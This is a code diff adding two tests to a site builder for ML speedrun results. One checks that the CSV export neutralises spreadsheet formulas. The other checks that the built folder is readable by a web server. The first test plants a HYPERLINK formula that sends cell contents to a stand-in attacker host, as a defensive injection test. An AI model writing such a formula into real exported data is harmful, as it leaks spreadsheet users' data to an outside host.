@@ -409,3 +409,38 @@ def test_bundled_runs_build(tmp_path, monkeypatch):
     summary = build_mod.build_site(Path("runs"), out)
     assert summary.invalid_runs == 0 and summary.valid_runs >= 1
     assert (out / "index.html").is_file()
+
+
+# --------------------------------------------------------------------- issue 11: exports and the built folder
+
+
+def test_the_csv_export_defuses_spreadsheet_formulas(tmp_path, monkeypatch):
+    """A team named `=HYPERLINK(...)` was written verbatim: a spreadsheet opening the CSV would run it."""
+    import csv
+
+    runs = tmp_path / "runs"
+    shutil.copytree(ROOT / "runs" / "digits-classification", runs / "digits-classification",
+                    ignore=shutil.ignore_patterns("ast-*", "__pycache__", "reproductions"))
+    analysis = runs / "digits-classification" / "mlp-baseline" / "speedrun_analysis.json"
+    doc = json.loads(analysis.read_text())
+    doc["team"] = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    analysis.write_text(json.dumps(doc, indent=2))
+    _build(runs, tmp_path / "site", monkeypatch, flops=False)
+    rows = list(csv.DictReader((tmp_path / "site" / "tracks" / "digits-classification.csv").open()))
+    teams = [r["team"] for r in rows]
+    assert "'" + doc["team"] in teams, teams
+    assert not any(str(v).startswith(("=", "+", "-", "@")) for r in rows for k, v in r.items() if k in ("name", "team"))
+
+
+def test_the_built_site_is_readable_by_a_web_server_running_as_another_user(tmp_path, monkeypatch):
+    """The build folder came from mkdtemp (mode 0700), so a web server running as another user could not read it."""
+    import stat
+
+    runs = tmp_path / "runs"
+    shutil.copytree(ROOT / "runs" / "digits-classification", runs / "digits-classification",
+                    ignore=shutil.ignore_patterns("ast-*", "__pycache__"))
+    _build(runs, tmp_path / "site", monkeypatch, flops=False)
+    mode = stat.S_IMODE((tmp_path / "site").stat().st_mode)
+    assert mode & 0o055 == 0o055, oct(mode)  # group and others may list and enter it
+    index = stat.S_IMODE((tmp_path / "site" / "index.html").stat().st_mode)
+    assert index & 0o044 == 0o044, oct(index)
